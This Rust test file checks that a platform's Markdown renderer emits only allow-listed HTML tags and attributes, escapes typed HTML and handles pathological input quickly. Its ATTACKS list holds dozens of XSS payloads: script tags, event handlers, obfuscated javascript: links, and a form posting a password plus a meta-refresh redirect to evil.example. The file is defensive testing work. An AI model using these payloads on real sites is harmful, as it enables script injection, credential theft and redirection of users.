//! Markdown comes out as the tags that its writer knows, and nothing that somebody types is more than text.

use crate::support::World;

/// Every tag that may come out, with the attributes that it may have.
const TAGS: [(&str, &[&str]); 23] = [
    ("p", &["dir"]),
    ("h3", &["dir"]),
    ("h4", &["dir"]),
    ("h5", &["dir"]),
    ("h6", &["dir"]),
    ("blockquote", &[]),
    ("pre", &["dir"]),
    ("code", &["dir"]),
    ("ul", &[]),
    ("ol", &["start"]),
    ("li", &["dir"]),
    ("table", &[]),
    ("thead", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("th", &["scope", "dir"]),
    ("td", &["dir"]),
    ("em", &[]),
    ("strong", &[]),
    ("del", &[]),
    ("a", &["href", "rel"]),
    ("br", &[]),
    ("hr", &[]),
];

/// What people try, as it would be typed.
const ATTACKS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" style=\"position:fixed\">",
    "text <b onmouseover=alert(1)>bold</b>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<style>body{display:none}</style>",
    "<div style=\"background:url(//evil.example)\">x</div>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!--><script>alert(1)</script>-->",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p\nonclick=alert(1)>",
    "</p></div><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'y\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](x)",
    "[![x](y \"z\")](javascript:alert(1))",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script> {#x onclick=alert(1)}",
];

async fn html(world: &World, text: &str) -> String {
    let reply = world.post("/api/fn/platform.render_markdown").form([("text", text)]).send().await;
    assert_eq!(reply.status, 200, "{text}: {}", reply.text());
    reply.json()["html"].as_str().expect("HTML").to_owned()
}

/// The tags of a text as a browser's first look finds them: each `<` begins one, and a quoted value ends with its quote.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let inside = html.split('<').skip(1).map(|rest| rest.split_once('>').expect("a tag ends").0);
    inside
        .map(|tag| {
            let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
            let mut attributes = Vec::new();
            while let Some((attribute, value)) = rest.split_once("=\"") {
                let (value, after) = value.split_once('"').expect("a value ends");
                attributes.push((attribute.trim().to_owned(), value.to_owned()));
                rest = after;
            }
            assert!(rest.trim().is_empty(), "{tag}");
            (name.trim_start_matches('/').to_owned(), attributes)
        })
        .collect()
}

/// What is wrong with the HTML, if anything.
fn fault(html: &str) -> Option<String> {
    tags(html).into_iter().find_map(|(name, attributes)| {
        let Some((_, known)) = TAGS.iter().find(|(tag, _)| *tag == name) else {
            return Some(format!("<{name}>"));
        };
        attributes.into_iter().find_map(|(attribute, value)| {
            let leads_well = ["https://", "http://", "mailto:", "#"].iter().any(|it| value.starts_with(it))
                || (value.starts_with('/') && !value.starts_with("//") && !value.contains('\\'));
            let is_fine = known.contains(&attribute.as_str()) && (attribute != "href" || leads_well);
            (!is_fine).then(|| format!("<{name} {attribute}=\"{value}\">"))
        })
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn nothing_dangerous_comes_through_markdown() {
    let world = World::demo().await;
    for attack in ATTACKS {
        // Alone, within other blocks, and after something that was left open.
        for text in [
            attack.to_owned(),
            format!("> - {attack}"),
            format!("**a `b\n\n<div>{attack}"),
            format!("{attack}{attack}"),
        ] {
            let html = html(&world, &text).await;
            assert_eq!(fault(&html), None, "{text}\n{html}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn what_was_typed_as_html_is_read_as_it_was_typed() {
    let world = World::demo().await;
    assert_eq!(html(&world, "<b>x</b>").await, "<p dir=\"auto\">&lt;b&gt;x&lt;/b&gt;</p>\n");
    assert!(!html(&world, "a&#8238;b&#x202e;c").await.contains('\u{202E}'), "entities turn no text round");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_text_is_rendered_for_everybody_in_bounds_and_quickly() {
    let world = World::demo().await;
    let ask = async |text: String| world.post("/api/fn/platform.render_markdown").form([("text", text)]).send().await;
    assert_eq!(ask(String::new()).await.json()["html"], "");
    let reply = ask("x".repeat(100_001)).await;
    assert_eq!((reply.status, &reply.json()["error"]["fields"][0]["code"]), (400, &serde_json::json!("too_long")));
    assert_eq!(ask("a\u{202E}b".to_owned()).await.status, 400);
    // What makes careless readers of Markdown slow.
    for piece in ["[", "*a_ ", "> ", "![[", "`a", "<", "- ", "|a", "&#", "[a](<b"] {
        let begun = std::time::Instant::now();
        let reply = ask(piece.repeat(99_000 / piece.len())).await;
        assert_eq!(reply.status, 200, "{piece}");
        assert!(begun.elapsed().as_secs() < 10, "{piece} took {:?}", begun.elapsed());
    }
}

#[test]
fn the_look_at_tags_finds_what_is_wrong() {
    for bad in ["<script>", "<p onclick=\"x\">", "<a href=\"javascript:x\">", "<a href=\"//x\">", "<h1>", "<img>"] {
        assert!(fault(bad).is_some(), "{bad}");
    }
    assert_eq!(fault("<p dir=\"auto\">a &lt;b&gt; <a href=\"/x\" rel=\"noopener nofollow\">b</a></p>"), None);
}
